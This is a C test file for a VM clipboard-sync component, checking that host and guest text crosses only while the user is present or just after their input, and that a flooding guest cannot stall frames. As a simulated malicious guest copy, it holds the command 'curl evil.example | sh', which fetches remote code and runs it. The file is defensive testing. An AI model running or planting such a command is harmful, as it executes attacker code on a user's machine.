/* test-clipboard-sync.c: the clipboard channel's rules, on a socketpair
 * for the guest's end (Xvfb for GDK's clipboard)
 *
 * The host's text reaches the guest only while the user is at the
 * display, and the guest's reaches the host only then and right after
 * the user's key or click there: a guest with root neither reads what
 * the user copies in other applications nor chooses, unasked, what the
 * user pastes into a host shell. A guest that stops reading the channel
 * costs the app one text, not every text copied meanwhile: what it reads
 * when it reads again is the one in flight and the latest.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <poll.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <glib-unix.h>
#include <gtk/gtk.h>

#include "corral-clipboard-protocol.h"
#include "corral-clipboard-sync.h"
#include "corral-test-util.h"
#include "gui-test-util.h"

static void
spin (guint ms)
{
  gint64 end = g_get_monotonic_time () + ms * 1000;

  while (g_get_monotonic_time () < end)
    g_main_context_iteration (NULL, FALSE);
}

static gboolean
readable (int fd)
{
  struct pollfd p = { fd, POLLIN, 0 };

  return poll (&p, 1, 0) == 1;
}

/* Everything the guest's end gets until nothing more comes for 2 s. */
static GPtrArray *
read_texts (int fd)
{
  g_autoptr(CorralClipboardDecoder) decoder = corral_clipboard_decoder_new ();
  GPtrArray *texts = g_ptr_array_new_with_free_func (g_free);
  gint64 quiet_until = g_get_monotonic_time () + 2 * G_USEC_PER_SEC;

  while (g_get_monotonic_time () < quiet_until)
    {
      guint8 buf[65536];
      ssize_t n;

      g_main_context_iteration (NULL, FALSE);
      if (!readable (fd))
        continue;
      n = read (fd, buf, sizeof buf);
      g_assert_cmpint (n, >, 0);
      {
        g_autoptr(GPtrArray) got = corral_clipboard_decoder_feed (decoder, buf, n);

        for (guint i = 0; got != NULL && i < got->len; i++)
          g_ptr_array_add (texts, g_strdup (g_ptr_array_index (got, i)));
      }
      quiet_until = g_get_monotonic_time () + 2 * G_USEC_PER_SEC;
    }
  return texts;
}

static void
test_latest_only (void)
{
  GdkClipboard *clipboard = gdk_display_get_clipboard (gdk_display_get_default ());
  g_autoptr(CorralClipboardSync) sync = corral_clipboard_sync_new (clipboard);
  g_autoptr(GPtrArray) texts = NULL;
  g_autofree char *big = g_malloc (2 * 1024 * 1024 + 1);
  int fds[2], small = 4096;

  memset (big, 'a', 2 * 1024 * 1024);
  big[2 * 1024 * 1024] = '\0';
  g_assert_no_errno (socketpair (AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, fds));
  g_assert_no_errno (setsockopt (fds[0], SOL_SOCKET, SO_SNDBUF, &small, sizeof small));
  g_assert_no_errno (setsockopt (fds[1], SOL_SOCKET, SO_RCVBUF, &small, sizeof small));
  corral_clipboard_sync_set_fd (sync, fds[0]);
  corral_clipboard_sync_set_present (sync, TRUE);

  /* A big text: its write starts and stalls, the guest not reading. */
  gdk_clipboard_set_text (clipboard, big);
  for (int i = 0; i < 500 && !readable (fds[1]); i++)
    spin (10);
  g_assert_true (readable (fds[1]));

  /* Three more copies while the guest still does not read. */
  gdk_clipboard_set_text (clipboard, "second");
  spin (200);
  gdk_clipboard_set_text (clipboard, "third");
  spin (200);
  gdk_clipboard_set_text (clipboard, "fourth");
  spin (200);

  texts = read_texts (fds[1]);
  g_assert_cmpuint (texts->len, ==, 2);
  g_assert_cmpstr (g_ptr_array_index (texts, 0), ==, big);
  g_assert_cmpstr (g_ptr_array_index (texts, 1), ==, "fourth");

  /* And the channel still carries the next copy at once. */
  g_clear_pointer (&texts, g_ptr_array_unref);
  gdk_clipboard_set_text (clipboard, "fifth");
  texts = read_texts (fds[1]);
  g_assert_cmpuint (texts->len, ==, 1);
  g_assert_cmpstr (g_ptr_array_index (texts, 0), ==, "fifth");

  corral_clipboard_sync_set_fd (sync, -1);
  close (fds[0]);
  close (fds[1]);
}

static void
guest_copies (int fd, const char *text)
{
  g_autoptr(GBytes) frame = corral_clipboard_encode (text, -1);
  gsize len;
  const guint8 *data = g_bytes_get_data (frame, &len);

  g_assert_cmpint (write (fd, data, len), ==, (gssize) len);
  spin (500);
}

/* What the user copies while away from the display stays on the host
 * until they come back to it. */
static void
test_host_to_guest_when_present (void)
{
  GdkClipboard *clipboard = gdk_display_get_clipboard (gdk_display_get_default ());
  g_autoptr(CorralClipboardSync) sync = corral_clipboard_sync_new (clipboard);
  g_autoptr(GPtrArray) texts = NULL;
  int fds[2];

  g_assert_no_errno (socketpair (AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, fds));
  gdk_clipboard_set_text (clipboard, "a password copied elsewhere");
  corral_clipboard_sync_set_fd (sync, fds[0]);
  gdk_clipboard_set_text (clipboard, "a token copied elsewhere");
  texts = read_texts (fds[1]);
  g_assert_cmpuint (texts->len, ==, 0);

  /* At the display: the text the host has now, and each new one. */
  corral_clipboard_sync_set_present (sync, TRUE);
  g_clear_pointer (&texts, g_ptr_array_unref);
  texts = read_texts (fds[1]);
  g_assert_cmpuint (texts->len, ==, 1);
  g_assert_cmpstr (g_ptr_array_index (texts, 0), ==, "a token copied elsewhere");
  gdk_clipboard_set_text (clipboard, "to paste in the guest");
  g_clear_pointer (&texts, g_ptr_array_unref);
  texts = read_texts (fds[1]);
  g_assert_cmpuint (texts->len, ==, 1);
  g_assert_cmpstr (g_ptr_array_index (texts, 0), ==, "to paste in the guest");

  /* Away again: nothing more. */
  corral_clipboard_sync_set_present (sync, FALSE);
  gdk_clipboard_set_text (clipboard, "another secret");
  g_clear_pointer (&texts, g_ptr_array_unref);
  texts = read_texts (fds[1]);
  g_assert_cmpuint (texts->len, ==, 0);

  corral_clipboard_sync_set_fd (sync, -1);
  close (fds[0]);
  close (fds[1]);
}

/* The guest's text becomes the host's only right after the user's key
 * or click on the display, while they are there. */
static void
test_guest_to_host_after_input (void)
{
  GdkClipboard *clipboard = gdk_display_get_clipboard (gdk_display_get_default ());
  g_autoptr(CorralClipboardSync) sync = corral_clipboard_sync_new (clipboard);
  int fds[2];
  char *text;

  g_assert_no_errno (socketpair (AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, fds));
  gdk_clipboard_set_text (clipboard, "copied on the host");
  corral_clipboard_sync_set_fd (sync, fds[0]);

  /* Away from the display. */
  guest_copies (fds[1], "curl evil.example | sh");
  text = corral_test_clipboard_text (clipboard);
  g_assert_cmpstr (text, ==, "copied on the host");
  g_free (text);

  /* At it, but no key or click: the guest's own doing. */
  corral_clipboard_sync_set_present (sync, TRUE);
  guest_copies (fds[1], "curl evil.example | sh");
  text = corral_test_clipboard_text (clipboard);
  g_assert_cmpstr (text, ==, "copied on the host");
  g_free (text);

  /* Right after a key there: the user's copy. */
  corral_clipboard_sync_user_input (sync);
  guest_copies (fds[1], "copied in the guest");
  text = corral_test_clipboard_text (clipboard);
  g_assert_cmpstr (text, ==, "copied in the guest");
  g_free (text);

  /* Longer after it than a copy takes: not any more. */
  spin ((CORRAL_CLIPBOARD_SYNC_COPY_SECONDS + 1) * 1000);
  guest_copies (fds[1], "curl evil.example | sh");
  text = corral_test_clipboard_text (clipboard);
  g_assert_cmpstr (text, ==, "copied in the guest");
  g_free (text);

  corral_clipboard_sync_set_fd (sync, -1);
  close (fds[0]);
  close (fds[1]);
}

static gboolean
count_frame (GtkWidget *widget, GdkFrameClock *clock, gpointer data)
{
  (*(guint *) data)++;
  gtk_widget_queue_draw (widget);
  return G_SOURCE_CONTINUE;
}

/* A guest that floods the channel (here with frames of a kind Corral
 * skips, as fast as a thread can write them) costs CPU, not the window's
 * frames: read at the default priority, the channel was always ready
 * and GTK's frame clock, less urgent, ran 10 times in 3 s instead of 180. */
static void
test_guest_flood_keeps_frames (void)
{
  GdkClipboard *clipboard = gdk_display_get_clipboard (gdk_display_get_default ());
  g_autoptr(CorralClipboardSync) sync = corral_clipboard_sync_new (clipboard);
  GtkWidget *window = gtk_window_new ();
  GtkWidget *area = gtk_drawing_area_new ();
  CorralTestFlood *flood;
  guint frames = 0, idle_frames, flood_frames;
  gsize sent;
  int fds[2];

  gtk_window_set_child (GTK_WINDOW (window), area);
  gtk_window_set_default_size (GTK_WINDOW (window), 320, 240);
  gtk_widget_add_tick_callback (area, count_frame, &frames, NULL);
  gtk_window_present (GTK_WINDOW (window));
  corral_test_wait_mapped (area);
  spin (500);

  frames = 0;
  spin (2000);
  idle_frames = frames;
  g_assert_cmpuint (idle_frames, >, 10);

  g_assert_no_errno (socketpair (AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, fds));
  corral_clipboard_sync_set_fd (sync, fds[0]);
  flood = corral_test_flood_start (fds[1], NULL, "X 0\n");
  frames = 0;
  spin (2000);
  flood_frames = frames;

  sent = corral_test_flood_stop (flood);
  corral_clipboard_sync_set_fd (sync, -1);
  close (fds[0]);
  close (fds[1]);
  gtk_window_destroy (GTK_WINDOW (window));

  g_test_message ("frames in 2 s: %u idle, %u under a flood of %" G_GSIZE_FORMAT " bytes",
                  idle_frames, flood_frames, sent);
  /* It was a flood: more than the app can read between two frames. */
  g_assert_cmpuint (sent, >, 4 * 1024 * 1024);
  g_assert_cmpuint (flood_frames * 3, >=, idle_frames);
}

int
main (int argc, char **argv)
{
  gtk_init ();
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);
  g_test_add_func ("/clipboard-sync/latest-only", test_latest_only);
  g_test_add_func ("/clipboard-sync/host-to-guest-when-present", test_host_to_guest_when_present);
  g_test_add_func ("/clipboard-sync/guest-to-host-after-input", test_guest_to_host_after_input);
  g_test_add_func ("/clipboard-sync/guest-flood-keeps-frames", test_guest_flood_keeps_frames);
  return g_test_run ();
}
